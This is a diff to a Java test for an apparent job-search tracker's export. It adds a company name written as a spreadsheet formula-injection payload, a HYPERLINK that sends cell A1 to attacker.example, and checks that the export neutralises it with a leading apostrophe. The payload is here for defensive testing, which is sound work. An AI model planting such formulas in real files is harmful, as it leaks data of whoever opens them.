@@ -50,6 +50,8 @@ class HandMadeWeekTest {
     // Late enough for the ghosted thread of interview 2 to close (second check 17 Dec + 14 days = 31 Dec).
     private static final Instant AS_OF = Instant.parse("2027-01-05T00:00:00Z");
     private static final String COMPANY_A = "Acme, \"Widgets\" Ltd";
+    /** Bea Corp, as a candidate who means harm could name it: a formula that leaks the cell beside it. */
+    private static final String COMPANY_B = "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"Bea Corp\")";
 
     private static Jdbi jdbi;
     private static long rita;
@@ -68,7 +70,7 @@ class HandMadeWeekTest {
         jdbi.useTransaction(handle -> {
             long companyA = id(handle, "INSERT INTO companies (name) VALUES (?) RETURNING id", COMPANY_A);
             long companyB =
-                    id(handle, "INSERT INTO companies (name, does_not_reply) VALUES ('Bea Corp', true) RETURNING id");
+                    id(handle, "INSERT INTO companies (name, does_not_reply) VALUES (?, true) RETURNING id", COMPANY_B);
             hana = contact(handle, companyA, "Hana Hiring", "HIRING_MANAGER", "hana@a.example", null);
             long ivan =
                     contact(handle, companyA, "Ivan Interviewer", "INTERVIEWER", "ivan@a.example", "+44 20 1111 2222");
@@ -238,6 +240,11 @@ class HandMadeWeekTest {
             assertThat(agency.get("ghosted_r8")).isEqualTo("1");
             assertThat(agency.get("breaches")).isEqualTo("7");
             assertThat(records).extracting(record -> record.get("name")).contains(COMPANY_A, "Zoë Ångström");
+            // A name a spreadsheet would run as a formula arrives as text (issue 15).
+            assertThat(records)
+                    .extracting(record -> record.get("name"))
+                    .contains("'" + COMPANY_B)
+                    .doesNotContain(COMPANY_B);
         }
     }
 
